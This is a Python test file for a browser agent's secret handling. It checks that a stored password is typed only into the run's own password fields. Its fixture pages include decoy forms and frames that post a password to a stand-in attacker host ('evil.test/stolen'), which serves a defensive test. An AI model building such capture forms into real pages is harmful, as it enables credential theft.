"""A secret goes into a real page's password field, and into no frame, form or box that is not the run's own."""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from playwright.async_api import Route

from app.engine.agent.action_dispatcher import ActionDispatcher
from app.engine.agent.calculator import calculate
from app.engine.agent.memory.ledger_store import LedgerStore
from app.engine.agent.secret_masking import mask_secrets
from app.engine.agent.secrets import Secrets
from app.engine.browser.executor import Executor
from app.engine.browser.session import BrowserSession
from app.engine.core.actions.types import Click, TypeKeys, TypeText
from app.engine.core.observation import Observation
from app.engine.core.page_state import Element

VALUE = "hunter2-very-secret"
SHOP, EVIL = "http://shop.test", "http://evil.test"
FILL = "{secret:PW}"
PAGES = {
    f"{SHOP}/": f"""<title>Shop</title>
        <form method="post" action="/session"><input type="password" aria-label="Own password"></form>
        <form method="post" action="{EVIL}/stolen"><input type="password" aria-label="Sent away"></form>
        <form action="/find"><input aria-label="Find"></form>
        <label>Notes <textarea></textarea></label>
        <input aria-label="Quiet" autocomplete="section-x one-time-code">
        <iframe src="{EVIL}/frame" name="evil"></iframe>
        <iframe src="/frame" name="own"></iframe>
        <iframe srcdoc="<input type=password aria-label='Written in'>" name="written"></iframe>
        <iframe sandbox="allow-scripts" srcdoc="<input type=password aria-label='Nobody’s'>" name="boxed"></iframe>
        <iframe src="/holder" name="outer"></iframe>""",
    f"{SHOP}/frame": '<input type="password" aria-label="Own frame">',
    f"{SHOP}/holder": f'<iframe src="{EVIL}/deep" name="inner"></iframe>',
    f"{EVIL}/frame": '<form method="post" action="/stolen"><input type="password" aria-label="Evil frame"></form>',
    f"{EVIL}/deep": '<input type="password" aria-label="Evil within">',
}


@dataclass
class Bench:
    """Hands on the page, the deeds that use them, and what was asked of the network."""

    hands: Executor
    deeds: ActionDispatcher
    asked: list[str] = field(default_factory=list)

    async def sight(self) -> Observation:
        page = mask_secrets(await self.hands.look(picture=False), self.deeds.secrets)
        return Observation(
            step=0, steps_left=9, intent="Log in with {secret:PW}", start_url=f"{SHOP}/", page=page
        )

    async def named(self, name: str) -> tuple[Observation, Element]:
        sight = await self.sight()
        return sight, next(one for one in sight.page.elements if one.name == name)


@pytest_asyncio.fixture(loop_scope="session")
async def bench(blank: BrowserSession) -> Bench:
    asked: list[str] = []

    async def answer(route: Route) -> None:
        asked.append(f"{route.request.method} {route.request.url} {route.request.post_data or ''}")
        body = PAGES.get(route.request.url, "<title>Nothing</title>")
        await route.fulfill(body=body, content_type="text/html; charset=utf-8")

    await blank.page.context.route("**/*", answer)
    await blank.page.goto(f"{SHOP}/")
    hands = Executor(blank, domains=frozenset({"shop.test"}))
    secrets = Secrets({"PW": VALUE})
    secrets.hosts = frozenset({"shop.test"})
    return Bench(hands, ActionDispatcher(hands, LedgerStore(), calculate, secrets=secrets), asked)


async def held(session: BrowserSession) -> str:
    """Everything that any field of any frame holds."""
    script = "() => [...document.querySelectorAll('input,textarea')].map(one => one.value).join('|')"
    return " ".join([await frame.evaluate(script) for frame in session.page.frames])


@pytest.mark.smoke
@pytest.mark.parametrize("name", ["Own password", "Quiet", "Own frame", "Written in"])
async def test_a_field_of_the_runs_own_that_asks_for_a_secret_gets_it(
    bench: Bench, blank: BrowserSession, name: str
):
    sight, element = await bench.named(name)
    done, _ = await bench.deeds.do(TypeText(element.index, FILL), sight)
    assert done.success, done.why
    assert VALUE in await held(blank)


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("Sent away", "sends to evil.test, which is not one of this run's sites"),
        ("Find", "becomes part of an address"),
        ("Notes", "does not ask for a secret"),
        ("Evil frame", "is in a frame of evil.test, which is not one of this run's sites"),
        ("Evil within", "is in a frame of evil.test, which is not one of this run's sites"),
        ("Nobody’s", "is in a frame of null, which is not one of this run's sites"),
    ],
)
async def test_no_other_field_gets_it(bench: Bench, blank: BrowserSession, name: str, why: str):
    sight, element = await bench.named(name)
    done, _ = await bench.deeds.do(TypeText(element.index, FILL), sight)
    assert not done.success
    assert why in done.why
    assert VALUE not in await held(blank)
    assert not any(VALUE in one or "/stolen" in one for one in bench.asked)


async def test_keys_are_judged_by_the_field_with_the_cursor(bench: Bench, blank: BrowserSession):
    for name, gets in (("Notes", False), ("Evil frame", False), ("Own password", True)):
        sight, element = await bench.named(name)
        await bench.deeds.do(Click(element.index), sight)
        done, _ = await bench.deeds.do(TypeKeys(FILL), await bench.sight())
        assert done.success is gets, (name, done.why)
        assert (VALUE in await held(blank)) is gets


async def test_the_origin_of_a_frame_is_told_by_the_browser_and_not_by_its_address(bench: Bench):
    sight = await bench.sight()
    origins = {element.name: element.origin for element in sight.page.elements if element.frame}
    assert origins["Evil frame"] == EVIL
    assert origins["Evil within"] == EVIL
    assert origins["Own frame"] == SHOP
    assert origins["Written in"] == SHOP
    assert origins["Nobody’s"] == "null"
